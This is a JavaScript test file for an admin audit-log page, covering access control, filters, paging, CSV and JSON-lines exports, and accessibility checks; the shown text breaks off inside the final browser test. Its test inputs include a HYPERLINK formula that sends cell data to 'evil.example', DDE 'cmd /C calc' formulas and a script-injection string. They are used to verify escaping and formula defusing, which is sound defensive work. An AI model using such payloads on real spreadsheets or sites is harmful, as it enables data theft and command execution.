// The console's audit log, /admin/audit, end to end against the built Worker: only
// administrators see it (the sign-in form without a session, 403 without the role, for the
// downloads too); filtering by person, app, kind of event and UTC days gives exactly the
// rows that match, made by real actions (sign-ins, registrations, code exchanges, a
// refresh, a personal token, a failed sign-in) and by rows written into audit_events on
// days of the past; 50 rows a page with "Older events" (rel="next") keeping the filter;
// the CSV and JSON lines downloads parse back to the same rows, with cells a spreadsheet
// would run as formulas defused, and stop at 10,000 rows; a filter value that cannot mean
// anything is a 400 page with an alert naming it; a disable on /admin/people is logged
// naming the administrator. In headless Chromium the page passes axe in light and dark,
// fits 320 px, and its filter form works with the keyboard alone.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import { fileURLToPath } from "node:url";
import path from "node:path";
import { startWorker } from "./helpers/worker.mjs";
import { createUser, fullFlow, publicClient, token, Browser, formFields } from "./helpers/oauth.mjs";
import { launchChromium, DEVICES, axeViolations, watchConsole } from "./helpers/chromium.mjs";

const here = path.dirname(fileURLToPath(import.meta.url));
const SHOTS = path.join(here, "screenshots");
const now = () => Math.floor(Date.now() / 1000);

let w, chromium, ann, carol, dave, member, count = 0;
before(async () => {
  mkdirSync(SHOTS, { recursive: true });
  w = await startWorker();
  ann = await person("ann", ["admin"]);
  carol = await person("carol");
  dave = await person("dave");
  member = await person("member", ["editor"]);
  chromium = await launchChromium();
});
after(async () => {
  await chromium?.close();
  await w?.stop();
});

/** A new person, with `roles` given by the operator directly in D1. */
async function person(label, roles = []) {
  const p = await createUser(w.db, `${label}@example.com`, `${label}-password-${++count}`);
  for (const role of roles) {
    await w.db.prepare("INSERT INTO user_roles (user_id, role, source, created_at) VALUES (?1, ?2, 'operator', ?3)").bind(p.id, role, now()).run();
  }
  return p;
}

const h1 = (html) => /<h1[^>]*>(.*?)<\/h1>/s.exec(html)?.[1];
const dataError = (html) => /<h1 data-error="([^"]*)"/.exec(html)?.[1];
const esc = (s) => String(s).replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;").replaceAll("'", "&#39;");
const unescape = (s) => s.replaceAll("&quot;", '"').replaceAll("&#39;", "'").replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");
const iso = (at) => new Date(at * 1000).toISOString().replace(/\.\d{3}Z$/, "Z");
const dayStart = (day) => Date.parse(day + "T00:00:00Z") / 1000;
const today = () => iso(now()).slice(0, 10);

/** The headers every page carries. */
function assertPageHeaders(res, why) {
  assert.match(res.headers.get("content-type") ?? "", /^text\/html/, why);
  const csp = res.headers.get("content-security-policy") ?? "";
  assert.match(csp, /frame-ancestors 'none'/, why);
  assert.match(csp, /default-src 'none'/, why);
  assert.equal(res.headers.get("cache-control"), "no-store", why);
  assert.equal(res.headers.get("x-frame-options"), "DENY", why);
  assert.equal(res.headers.get("x-content-type-options"), "nosniff", why);
}

/** A browser signed in at /admin as `who` (with the console's own form, as admin-people does). */
async function atConsole(who) {
  const browser = new Browser();
  const signin = await browser.get(w.url + "/admin");
  const res = await browser.post(w.url + "/admin", { ...formFields(await signin.text()), action: "signin", email: who.email, password: who.password });
  assert.equal(res.status, 303, `${who.email} signs in to the console`);
  await res.text();
  return browser;
}

let admin;
/** The administrator's browser, signed in once. */
const adminBrowser = async () => (admin ??= await atConsole(ann));

/** GET /admin/audit with `filter` (an object or a query string) in `browser`. */
async function audit(browser, filter = {}) {
  const query = typeof filter === "string" ? filter : new URLSearchParams(filter).toString();
  const res = await browser.get(`${w.url}/admin/audit${query ? "?" + query : ""}`);
  return { res, status: res.status, html: await res.text() };
}

/** Every row of audit_events as the console reads it, newest (highest id) first. */
async function allRows() {
  const { results } = await w.db
    .prepare("SELECT a.id, a.at, a.event, a.outcome, u.email, a.user_id, a.client_id, a.ip, a.request_id, a.detail FROM audit_events a LEFT JOIN users u ON u.id = a.user_id ORDER BY a.id DESC")
    .all();
  return results;
}

/** The rows a filter should give, worked out here from every row (not by the Worker's SQL). */
async function expected(filter) {
  const f = Object.fromEntries(Object.entries(filter).map(([k, v]) => [k, String(v).trim()]));
  const users = (await w.db.prepare("SELECT id, email FROM users").all()).results;
  const personId = f.person ? users.find((u) => u.email === f.person.toLowerCase())?.id ?? "(nobody)" : null;
  const from = f.from ? dayStart(f.from) : 0;
  const to = f.to ? dayStart(f.to) + 86400 : Infinity;
  return (await allRows()).filter(
    (r) =>
      (personId === null || r.user_id === personId) &&
      (!f.app || r.client_id === f.app) &&
      (!f.event || r.event === f.event) &&
      r.at >= from &&
      r.at < to &&
      (!f.before || r.id < Number(f.before)),
  );
}

/** The words the page's event select gives each event name (escaped, as in the page). */
function eventWords(html) {
  const select = /<select id="event" name="event">(.*?)<\/select>/s.exec(html)?.[1] ?? "";
  return Object.fromEntries([...select.matchAll(/<option value="([^"]+)"[^>]*>(.*) \(\1\)<\/option>/g)].map((m) => [m[1], m[2]]));
}

/** One row as templates/admin-audit-row.html shows it. */
function rowHtml(r, words) {
  const failed = r.outcome === "failed";
  const who = r.email ?? r.user_id;
  const [shown, at] = [`${iso(r.at).slice(0, 10)} ${iso(r.at).slice(11, 16)} UTC`, iso(r.at)];
  return (
    `<li${failed ? ' class="failed"' : ""}><time datetime="${at}">${shown}</time> <strong>${words[r.event] ?? "Other"}</strong> <code>${esc(r.event)}</code>` +
    `${failed ? " (failed)" : ""}${who ? ` · ${esc(who)}` : ""}${r.client_id ? ` · app <code>${esc(r.client_id)}</code>` : ""}${r.detail ? ` · ${esc(r.detail)}` : ""}` +
    `<span class="meta">${r.ip ? ` from ${esc(r.ip)}` : ""} · request ${esc(r.request_id)}</span></li>`
  );
}

/** The rows listed on a page, as HTML, in order. */
function listed(html) {
  const list = /<ol class="events" role="list">(.*?)<\/ol>/s.exec(html)?.[1] ?? "";
  return [...list.matchAll(/<li[ >].*?<\/li>/gs)].map((m) => m[0]);
}

/** The "Older events" link's target (unescaped), or null. */
const olderLink = (html) => {
  const m = /<a href="([^"]*)" rel="next">Older events<\/a>/.exec(html);
  return m ? unescape(m[1]) : null;
};
const newestLink = (html) => {
  const m = /<a href="([^"]*)">Newest events<\/a>/.exec(html);
  return m ? unescape(m[1]) : null;
};
const alertText = (html) => {
  const m = /<p class="error" role="alert">(.*?)<\/p>/s.exec(html);
  return m ? unescape(m[1]) : null;
};
/** The value an input of the filter form shows. */
const inputValue = (html, id) => unescape(new RegExp(`<input id="${id}" [^>]*value="([^"]*)"`).exec(html)?.[1] ?? "(no input)");
const selectedEvent = (html) => /<option value="([^"]*)" selected>/.exec(html)?.[1];

/** Asserts the page for `filter` lists exactly the rows `expected` works out (its first 50). */
async function assertFiltered(browser, filter, why) {
  const page = await audit(browser, filter);
  assert.equal(page.status, 200, `${why}: ${alertText(page.html) ?? page.html.slice(0, 200)}`);
  const want = await expected(filter);
  const words = eventWords(page.html);
  assert.deepEqual(listed(page.html), want.slice(0, 50).map((r) => rowHtml(r, words)), why);
  if (want.length === 0) assert.match(page.html, /<p>No events match\.<\/p>/, why);
  else assert.doesNotMatch(page.html, /No events match/, why);
  assert.equal(olderLink(page.html) !== null, want.length > 50, `${why}: an Older events link only when there are more`);
  // The form shows the filter it was asked for.
  assert.equal(inputValue(page.html, "person"), (filter.person ?? "").trim().toLowerCase(), why);
  assert.equal(inputValue(page.html, "app"), (filter.app ?? "").trim(), why);
  assert.equal(inputValue(page.html, "from"), filter.from ?? "", why);
  assert.equal(inputValue(page.html, "to"), filter.to ?? "", why);
  assert.equal(selectedEvent(page.html), filter.event ?? "", why);
  return { ...page, want };
}

/** RFC 4180, strictly: every line ends CRLF; a quote only opens or closes a quoted field. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = "";
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') (field += '"'), i++;
      else quoted = false;
    } else if (c === '"') {
      if (field !== "" || wasQuoted) throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = wasQuoted = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
      wasQuoted = false;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      wasQuoted = false;
      i++;
    } else if (c === "\r" || c === "\n") {
      throw new Error(`a line break outside quotes that is not CRLF at ${i}`);
    } else {
      field += c;
    }
  }
  if (quoted || field !== "" || row.length) throw new Error("the last line does not end with CRLF");
  return rows;
}

const COLUMNS = ["time", "event", "outcome", "email", "user_id", "client_id", "ip", "request_id", "detail"];
/** A row's CSV cells as they should be: formula-like cells get a leading apostrophe. */
const defused = (v) => (v !== null && /^[=+\-@\t\r]/.test(v) ? `'${v}` : v ?? "");
const csvCells = (r) => [iso(r.at), r.event, r.outcome, r.email, r.user_id, r.client_id, r.ip, r.request_id, r.detail].map(defused);
const jsonLine = (r) => ({ time: iso(r.at), at: r.at, event: r.event, outcome: r.outcome, email: r.email, user_id: r.user_id, client_id: r.client_id, ip: r.ip, request_id: r.request_id, detail: r.detail });

/** Downloads `format` for `filter`: the response and its body. */
async function download(browser, filter, format) {
  const query = new URLSearchParams({ ...filter, format }).toString();
  const res = await browser.get(`${w.url}/admin/audit?${query}`);
  return { res, status: res.status, text: await res.text() };
}
function assertDownloadHeaders(res, ext, why) {
  assert.equal(res.status, 200, why);
  assert.match(res.headers.get("content-type") ?? "", ext === "csv" ? /^text\/csv; charset=utf-8$/ : /^application\/jsonl; charset=utf-8$/, why);
  assert.equal(res.headers.get("content-disposition"), `attachment; filename="audit-${today()}.${ext}"`, why);
  assert.equal(res.headers.get("cache-control"), "no-store", why);
  assert.equal(res.headers.get("x-content-type-options"), "nosniff", why);
}
const parseJsonl = (text) => {
  if (text === "") return [];
  assert.ok(text.endsWith("\n"), "JSON lines end with a newline");
  return text.slice(0, -1).split("\n").map((l) => JSON.parse(l));
};

/** Rows written straight into audit_events (as the operator's commands write theirs). */
async function insertRows(rows) {
  const statements = rows.map((r) =>
    w.db
      .prepare("INSERT INTO audit_events (at, event, outcome, user_id, client_id, ip, request_id, detail) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)")
      .bind(r.at, r.event, r.outcome ?? "ok", r.user_id ?? null, r.client_id ?? null, r.ip ?? null, r.request_id ?? "cli", r.detail ?? null),
  );
  for (let i = 0; i < statements.length; i += 100) await w.db.batch(statements.slice(i, i + 100));
}

/** The People page's form about `who` (its first: disable or enable), as admin-people reads it. */
function formFor(html, who) {
  const i = html.indexOf(`name="user_id" value="${who.id}"`);
  assert.ok(i > 0, `a form for ${who.email}`);
  const start = html.lastIndexOf("<form", i);
  return formFields(html.slice(start, html.indexOf("</form>", i)));
}

// What the tests below made, for the later ones.
const made = {};

test("without a session /admin/audit is the console's sign-in form; without the admin role it is 403, downloads too", async () => {
  const stranger = new Browser();
  for (const q of ["", "?format=csv", "?format=jsonl", "?event=sign_in"]) {
    const res = await stranger.get(w.url + "/admin/audit" + q);
    const html = await res.text();
    assert.equal(res.status, 200, q);
    assertPageHeaders(res, `sign-in for /admin/audit${q}`);
    assert.equal(h1(html), "Sign in to the console", q);
    assert.doesNotMatch(html, /time,event,outcome|Audit log/, q);
  }
  // Signing in there leads into the console.
  const form = formFields(await (await stranger.get(w.url + "/admin/audit")).text());
  const signin = await stranger.post(w.url + "/admin", { ...form, action: "signin", email: ann.email, password: ann.password });
  assert.equal(signin.status, 303);
  const page = await audit(stranger);
  assert.equal(page.status, 200);
  assert.equal(h1(page.html), "Audit log");
  assertPageHeaders(page.res, "the audit log");
  assert.match(page.html, /<a href="\/admin\/audit" aria-current="page">Audit log<\/a>/, "the navigation marks the page");

  const m = await atConsole(member);
  for (const q of ["", "?format=csv", "?format=jsonl", `?person=${encodeURIComponent(carol.email)}`]) {
    const res = await m.get(w.url + "/admin/audit" + q);
    const html = await res.text();
    assert.equal(res.status, 403, q);
    assert.match(res.headers.get("content-type") ?? "", /^text\/html/, q);
    assert.equal(res.headers.get("content-disposition"), null, q);
    assert.equal(dataError(html), "admin_only", q);
    assert.doesNotMatch(html, /time,event,outcome|sign_in|ann@example\.com/, q);
  }
});

test("filters by person, app, kind of event and UTC days list exactly the rows that match", async () => {
  // Real actions: two apps registered and connected (a code exchange each), a refresh, a
  // failed sign-in.
  const c1 = await fullFlow(w.url, carol, { client: await publicClient(w.url, "http://127.0.0.1:9999/callback", { client_name: "Carol's Notes" }) });
  assert.equal(c1.status, 200, JSON.stringify(c1.tokens));
  const c2 = await fullFlow(w.url, dave, { client: await publicClient(w.url, "http://127.0.0.1:9998/cb", { client_name: "Dave's Desk" }) });
  assert.equal(c2.status, 200);
  const refreshed = await token(w.url, { grant_type: "refresh_token", refresh_token: c2.tokens.refresh_token, client_id: c2.client.client_id });
  assert.equal(refreshed.status, 200);
  const wrong = new Browser();
  const form = formFields(await (await wrong.get(w.url + "/account")).text());
  assert.equal((await wrong.post(w.url + "/account", { ...form, action: "signin", email: carol.email, password: "not-her-password" })).status, 401);
  made.c1 = c1.client.client_id;
  made.c2 = c2.client.client_id;
  // Rows of days past, on the edges of UTC days.
  const d = dayStart("2025-03-01");
  await insertRows([
    { at: d - 1, event: "sign_in", user_id: carol.id, detail: "last second of 2025-02-28" },
    { at: d, event: "sign_in", user_id: carol.id, detail: "first second of 2025-03-01" },
    { at: d + 86399, event: "refresh", user_id: dave.id, client_id: made.c2, detail: "last second of 2025-03-01" },
    { at: d + 86400, event: "sign_in", user_id: dave.id, detail: "first second of 2025-03-02" },
    { at: d + 86400 + 3600, event: "sign_in_failed", outcome: "failed", user_id: carol.id, ip: "203.0.113.0/24", request_id: "r-old", detail: "password" },
    { at: d + 2 * 86400 + 43200, event: "code_redeemed", user_id: carol.id, client_id: made.c1, detail: "noon of 2025-03-03" },
    { at: d + 5 * 86400, event: "client_registered", client_id: "old-app", detail: "<b>not bold</b> & \"quoted\"" },
  ]);

  const b = await adminBrowser();
  const all = await assertFiltered(b, {}, "no filter");
  assert.ok(all.want.length >= 20 && all.want.length <= 50, `${all.want.length} rows in all`);
  assert.ok(all.html.includes("&lt;b&gt;not bold&lt;/b&gt; &amp; &quot;quoted&quot;"), "details are escaped");
  assert.ok(!all.html.includes("<b>not bold</b>"));

  for (const [filter, why, atLeast] of [
    [{ person: carol.email }, "carol's rows", 6],
    [{ person: "  CAROL@Example.COM " }, "an email in any case, with spaces", 6],
    [{ person: dave.email }, "dave's rows", 5],
    [{ person: "nobody@example.com" }, "someone unknown", 0],
    [{ app: made.c1 }, "carol's app", 4],
    [{ app: made.c2 }, "dave's app, with its refresh", 5],
    [{ app: "old-app" }, "an app only rows remember", 1],
    [{ app: made.c1.toLowerCase() === made.c1 ? made.c1.toUpperCase() : made.c1.toLowerCase() }, "a client ID is matched exactly", 0],
    [{ event: "sign_in_failed" }, "failed sign-ins", 2],
    [{ event: "code_redeemed" }, "codes redeemed", 3],
    [{ event: "refresh" }, "refreshes", 2],
    [{ event: "user_added" }, "a kind nothing wrote", 0],
    [{ from: "2025-03-01", to: "2025-03-01" }, "one day", 2],
    [{ from: "2025-03-01", to: "2025-03-02" }, "two days, the To day included", 4],
    [{ to: "2025-02-28" }, "up to a day", 1],
    [{ from: "2025-03-03", to: "2025-03-05" }, "days around a noon", 1],
    [{ from: today(), to: today() }, "today: the real actions", 10],
    [{ from: "2099-01-01" }, "the future", 0],
    [{ person: carol.email, event: "sign_in", from: "2025-02-28", to: "2025-03-01" }, "person, kind and days together", 2],
    [{ person: dave.email, app: made.c2, event: "refresh" }, "person, app and kind together", 2],
  ]) {
    const page = await assertFiltered(b, filter, why);
    assert.ok(page.want.length >= atLeast && (atLeast > 0 || page.want.length === 0), `${why}: ${page.want.length} rows, expected at least ${atLeast}`);
    // The download links carry the same filter.
    const links = [...page.html.matchAll(/<a href="([^"]*)" download>/g)].map((m) => new URL(unescape(m[1]), w.url));
    assert.deepEqual(links.map((u) => u.searchParams.get("format")), ["csv", "jsonl"], why);
    for (const u of links) {
      for (const k of ["person", "app", "event", "from", "to"]) {
        const v = (filter[k] ?? "").trim();
        assert.equal(u.searchParams.get(k) ?? "", k === "person" ? v.toLowerCase() : v, `${why}: the download link's ${k}`);
      }
    }
    const jsonl = parseJsonl((await b.get(links[1].toString()).then((r) => r.text())));
    assert.deepEqual(jsonl, page.want.map(jsonLine), `${why}: the JSON lines download`);
  }
  // A failed row is marked.
  const failed = await audit(b, { event: "sign_in_failed" });
  assert.match(failed.html, /<li class="failed"><time[^>]*>[^<]*<\/time> <strong>Failed sign-in<\/strong> <code>sign_in_failed<\/code> \(failed\) · carol@example\.com/);
});

test("a filter value that cannot mean anything is a 400 page with an alert naming it; a format other than csv or jsonl is a 400 error page", async () => {
  const b = await adminBrowser();
  for (const [query, says] of [
    ["event=drop_tables", "'drop_tables' is not a kind of event the log records."],
    ["event=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "'<script>alert(1)</script>' is not a kind of event the log records."],
    ["from=yesterday", "From must be a day written YYYY-MM-DD; got 'yesterday'."],
    ["from=2026-13-01", "From must be a day written YYYY-MM-DD; got '2026-13-01'."],
    ["to=2026-02-30", "To must be a day written YYYY-MM-DD; got '2026-02-30'."],
    ["to=2026-1-05", "To must be a day written YYYY-MM-DD; got '2026-1-05'."],
    ["from=2026-12-02&to=2026-12-01", "The From day is after the To day."],
    ["before=-1", "That page of the log does not exist."],
    ["before=abc", "That page of the log does not exist."],
    ["person=a%0Ab%40example.com", "The person must be an email address."],
    ["app=x%00y", "The app must be a client ID."],
    ["event=nope&format=csv", "'nope' is not a kind of event the log records."],
  ]) {
    const page = await audit(b, query);
    assert.equal(page.status, 400, query);
    assertPageHeaders(page.res, query);
    assert.equal(h1(page.html), "Audit log", query);
    assert.equal(alertText(page.html), says, query);
    assert.doesNotMatch(page.html, /<script>alert/, `${query}: escaped`);
    assert.equal(listed(page.html).length, 0, `${query}: no rows under a filter that was not understood`);
    assert.equal(page.res.headers.get("content-disposition"), null, query);
  }
  for (const format of ["xml", "CSV", "json", "csv "]) {
    const res = await b.get(`${w.url}/admin/audit?format=${encodeURIComponent(format)}`);
    const html = await res.text();
    assert.equal(res.status, 400, format);
    assertPageHeaders(res, format);
    assert.equal(dataError(html), "bad_form", format);
    assert.match(html, /format is csv or jsonl/, format);
    assert.equal(res.headers.get("content-disposition"), null, format);
  }
  // An empty format is the page.
  assert.equal((await audit(b, "format=")).status, 200);
});

test("paging: 50 rows a page, Older events (rel=next) keeps the filter and ends; Newest events goes back", async () => {
  const base = dayStart("2025-06-01");
  await insertRows(Array.from({ length: 120 }, (_, i) => ({ at: base + i * 60, event: "gateway_call", user_id: dave.id, client_id: "paging-app", detail: `row-${String(i + 1).padStart(3, "0")}` })));
  const b = await adminBrowser();
  const filter = { app: "paging-app", event: "gateway_call" };
  const want = await expected(filter);
  assert.equal(want.length, 120);
  const words = eventWords((await audit(b)).html);
  const seen = [];
  let page = await assertFiltered(b, filter, "the first page");
  let pages = 0;
  for (;;) {
    pages++;
    const rows = listed(page.html);
    assert.ok(rows.length > 0 && rows.length <= 50, `page ${pages}: ${rows.length} rows`);
    seen.push(...rows);
    assert.equal(newestLink(page.html) !== null, pages > 1, `page ${pages}: Newest events only on a later page`);
    if (pages > 1) assert.equal(newestLink(page.html), "/admin/audit?app=paging-app&event=gateway_call");
    const next = olderLink(page.html);
    if (!next) break;
    const u = new URL(next, w.url);
    assert.equal(u.pathname, "/admin/audit");
    assert.equal(u.searchParams.get("app"), "paging-app", "the filter is kept");
    assert.equal(u.searchParams.get("event"), "gateway_call", "the filter is kept");
    assert.match(u.searchParams.get("before") ?? "", /^\d+$/);
    const res = await b.get(u.toString());
    page = { status: res.status, html: await res.text() };
    assert.equal(page.status, 200);
    assert.equal(inputValue(page.html, "app"), "paging-app", "the form keeps the filter on later pages");
  }
  assert.equal(pages, 3);
  assert.deepEqual(seen.map((li) => /· (row-\d{3})</.exec(li)?.[1]), want.map((r) => r.detail), "every row once, newest first");
  assert.deepEqual(seen, want.map((r) => rowHtml(r, words)));

  // A page of exactly 50 rows (the oldest 50) has no Older link.
  const fiftyFirst = want[want.length - 51];
  const last = await audit(b, { ...filter, before: String(fiftyFirst.id) });
  assert.equal(last.status, 200);
  assert.deepEqual(listed(last.html), want.slice(-50).map((r) => rowHtml(r, words)));
  assert.equal(olderLink(last.html), null, "no Older events after the last row");
  // Past the end: no rows, and the way back.
  const none = await audit(b, { ...filter, before: String(want.at(-1).id) });
  assert.equal(listed(none.html).length, 0);
  assert.match(none.html, /No events match/);
  assert.equal(newestLink(none.html), "/admin/audit?app=paging-app&event=gateway_call");
  // Without a filter the first page is the newest 50 of everything.
  const unfiltered = await audit(b);
  const everything = await expected({});
  assert.ok(everything.length > 120, `${everything.length} rows in all`);
  assert.deepEqual(listed(unfiltered.html), everything.slice(0, 50).map((r) => rowHtml(r, words)));
  assert.match(olderLink(unfiltered.html) ?? "", /^\/admin\/audit\?before=\d+$/);
});

test("CSV and JSON lines downloads parse back to the same rows; formula-like cells are defused in CSV", async () => {
  // A personal token named like a formula, made on the account page as a person would.
  const carolBrowser = new Browser();
  const signInFields = formFields(await (await carolBrowser.get(w.url + "/account")).text());
  assert.equal((await carolBrowser.post(w.url + "/account", { ...signInFields, action: "signin", email: carol.email, password: carol.password })).status, 303);
  const account = formFields(await (await carolBrowser.get(w.url + "/account")).text());
  const tokenName = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
  const created = await carolBrowser.post(w.url + "/account", { ...account, action: "create_token", token_name: tokenName, token_scope: "mcp:read", token_expires: "30", token_password: carol.password });
  const createdHtml = await created.text();
  assert.equal(created.status, 200, createdHtml.slice(0, 300));
  // An app registered with a name a spreadsheet would run.
  const app = await publicClient(w.url, "http://127.0.0.1:9997/cb", { client_name: "@SUM(1+1)*cmd|' /C calc'!A0" });
  // And rows the commands could write, with every kind of awkward cell.
  const awkward = ["+1+1", "-2+3", "@NOW()", "\t=1+1", "\r=2", "plain, with \"quotes\"", "line one\nline two", "'already quoted", " =not first", "=", "ünïcödé ✓"];
  await insertRows(awkward.map((detail, i) => ({ at: now() - 10 + i, event: "token_revoked", user_id: carol.id, client_id: i === 0 ? "=cmd|'/c calc'!A1" : null, ip: i === 1 ? "-1.0.0.0/24" : "198.51.100.0/24", request_id: i === 2 ? "@req" : "cli", detail })));
  const formulaPerson = await createUser(w.db, "-minus@example.com", "minus-password-1");
  await insertRows([{ at: now(), event: "user_added", user_id: formulaPerson.id, detail: "by the operator" }]);

  const b = await adminBrowser();
  for (const filter of [{}, { person: carol.email }, { event: "token_created" }, { app: app.client_id }, { event: "token_revoked" }, { person: "-minus@example.com" }, { from: "2099-01-01" }]) {
    const why = JSON.stringify(filter);
    const want = await expected(filter);
    const csv = await download(b, filter, "csv");
    assertDownloadHeaders(csv.res, "csv", why);
    assert.ok(csv.text.startsWith("time,event,outcome,email,user_id,client_id,ip,request_id,detail\r\n"), `${why}: the header line`);
    const parsed = parseCsv(csv.text);
    assert.deepEqual(parsed[0], COLUMNS);
    assert.deepEqual(parsed.slice(1), want.map(csvCells), `${why}: CSV`);
    for (const cell of parsed.slice(1).flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${why}: no cell a spreadsheet would run: ${JSON.stringify(cell)}`);
    const jsonl = await download(b, filter, "jsonl");
    assertDownloadHeaders(jsonl.res, "jsonl", why);
    const lines = parseJsonl(jsonl.text);
    for (const l of lines) assert.deepEqual(Object.keys(l).sort(), [...COLUMNS.slice(0, 1), "at", ...COLUMNS.slice(1)].sort(), `${why}: the keys of a line`);
    assert.deepEqual(lines, want.map(jsonLine), `${why}: JSON lines`);
  }

  // The token's name, as the CSV has it: defused, quoted (it holds quotes and a comma).
  const csv = (await download(b, { event: "token_created", person: carol.email }, "csv")).text;
  assert.ok(csv.includes(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"\r\n`), csv);
  const row = parseCsv(csv)[1];
  assert.equal(row[8], `'${tokenName}`);
  assert.equal(row[3], carol.email);
  const registered = parseCsv((await download(b, { app: app.client_id, event: "client_registered" }, "csv")).text);
  assert.equal(registered.length, 2);
  assert.equal(registered[1][8], "'@SUM(1+1)*cmd|' /C calc'!A0");
  const minus = parseCsv((await download(b, { person: "-minus@example.com" }, "csv")).text);
  assert.equal(minus[1][3], "'-minus@example.com", "an email starting with - is defused too");
  // JSON lines keep the values as they are.
  const jl = parseJsonl((await download(b, { event: "token_created", person: carol.email }, "jsonl")).text);
  assert.equal(jl[0].detail, tokenName);
  assert.equal(jl[0].time, iso(jl[0].at));
  // On the page the name is text.
  const page = await audit(b, { event: "token_created" });
  assert.ok(page.html.includes(esc(tokenName)));
});

test("a download holds at most 10,000 rows: the newest ones", async () => {
  await w.db
    .prepare(
      "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10005) " +
        "INSERT INTO audit_events (at, event, outcome, client_id, request_id, detail) SELECT ?1 + i, 'gateway_call', 'ok', 'bulk-app', 'cli', 'bulk ' || i FROM n",
    )
    .bind(dayStart("2025-09-01"))
    .run();
  const b = await adminBrowser();
  const want = await expected({ app: "bulk-app" });
  assert.equal(want.length, 10005);
  const csv = await download(b, { app: "bulk-app" }, "csv");
  assertDownloadHeaders(csv.res, "csv", "bulk");
  const rows = parseCsv(csv.text).slice(1);
  assert.equal(rows.length, 10000);
  assert.deepEqual(rows, want.slice(0, 10000).map(csvCells), "the newest 10,000, newest first");
  assert.equal(rows.at(-1)[8], "bulk 6");
  const jsonl = parseJsonl((await download(b, { app: "bulk-app" }, "jsonl")).text);
  assert.equal(jsonl.length, 10000);
  assert.equal(jsonl[0].detail, "bulk 10005");
  // The page says how many a download holds.
  assert.match((await audit(b)).html, /at most 10000 rows/);
});

test("a disable and an enable on /admin/people appear in the log naming the administrator", async () => {
  const erin = await person("erin");
  const b = await adminBrowser();
  const people = await (await b.get(`${w.url}/admin/people?q=erin`)).text();
  const res = await b.post(w.url + "/admin/people", { ...formFor(people, erin), action: "disable" });
  const disabledPage = await res.text();
  assert.equal(res.status, 200, disabledPage.slice(0, 300));
  assert.match(disabledPage, /erin@example\.com is disabled/);
  const enabled = await b.post(w.url + "/admin/people", { ...formFor(disabledPage, erin), action: "enable" });
  assert.match(await enabled.text(), /erin@example\.com can sign in again/);

  const page = await assertFiltered(b, { person: erin.email }, "erin's rows");
  const rows = listed(page.html);
  assert.equal(rows.length, 2, rows.join("\n"));
  assert.match(rows[0], /<strong>Account enabled by the operator<\/strong> <code>user_enabled<\/code> · erin@example\.com · by ann@example\.com<span/);
  assert.match(rows[1], /<strong>Account disabled by the operator<\/strong> <code>user_disabled<\/code> · erin@example\.com · by ann@example\.com<span/);
  const disabled = await assertFiltered(b, { event: "user_disabled" }, "every disable");
  assert.deepEqual(disabled.want.map((r) => [r.email, r.detail]), [[erin.email, `by ${ann.email}`]]);
  const lines = parseJsonl((await download(b, { event: "user_enabled" }, "jsonl")).text);
  assert.deepEqual(lines.map((l) => [l.email, l.user_id, l.detail, l.outcome]), [[erin.email, erin.id, `by ${ann.email}`, "ok"]]);
});

/** A fresh browser profile on `device` whose console errors and CSP reports are kept. */
async function open(device) {
  const context = await chromium.newContext({ ...device.options });
  const page = await context.newPage();
  return { context, page, problems: watchConsole(page) };
}

/** axe in light and dark, one h1, no sideways scroll at 320 px, and a screenshot. */
async function inspect(page, name, device) {
  assert.deepEqual(await axeViolations(page), [], `axe, light, ${name} on ${device.name}`);
  await page.emulateMedia({ colorScheme: "dark" });
  assert.deepEqual(await axeViolations(page), [], `axe, dark, ${name} on ${device.name}`);
  await page.emulateMedia({ colorScheme: "light" });
  assert.equal(await page.locator("h1").count(), 1, `one h1 on ${name}`);
  await page.screenshot({ path: path.join(SHOTS, `${name}-${device.name}.png`), fullPage: true });
  const size = page.viewportSize();
  await page.setViewportSize({ width: 320, height: 640 });
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(width <= 320, `${name} is ${width}px wide at 320 px`);
  await page.setViewportSize(size);
}

async function signInAs(page, p) {
  await page.goto(w.url + "/admin/audit");
  await page.getByRole("heading", { level: 1, name: "Sign in to the console" }).waitFor();
  for (const [label, text] of [["Email", p.email], ["Password", p.password]]) {
    await page.getByLabel(label, { exact: true }).click();
    await page.keyboard.type(text);
  }
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { level: 1, name: "Overview" }).waitFor();
}

for (const device of DEVICES) {
  test(`in Chromium the audit log passes axe in light and dark and fits 320 px, with rows, paging and a problem (${device.name})`, async () => {
    const { context, page, problems } = await open(device);
    await signInAs(page, ann);
    await page.getByRole("navigation", { name: "Console" }).getByRole("link", { name: "Audit log" }).click();
    await page.getByRole("heading", { level: 1, name: "Audit log" }).waitFor();
    assert.equal(await page.locator("ol.events > li").count(), 50);
    await inspect(page, "console-audit", device);
    // The failed rows (red) pass contrast too.
    await page.goto(w.url + "/admin/audit?event=sign_in_failed");
    assert.ok((await page.locator("ol.events > li.failed").count()) >= 2);
    await inspect(page, "console-audit-failed", device);
    // Older events, followed as a person would.
    await page.goto(w.url + "/admin/audit?app=paging-app");
    await page.getByRole("link", { name: "Older events" }).click();
    await page.getByRole("link", { name: "Newest events" }).waitFor();
    assert.equal(new URL(page.url()).searchParams.get("app"), "paging-app");
    await inspect(page, "console-audit-older", device);
    // A filter that cannot be read: the alert.
    const res = await page.goto(w.url + "/admin/audit?from=yesterday");
    assert.equal(res.status(), 400);
    assert.equal(await page.getByRole("alert").innerText(), "From must be a day written YYYY-MM-DD; got 'yesterday'.");
    await inspect(page, "console-audit-problem", device);
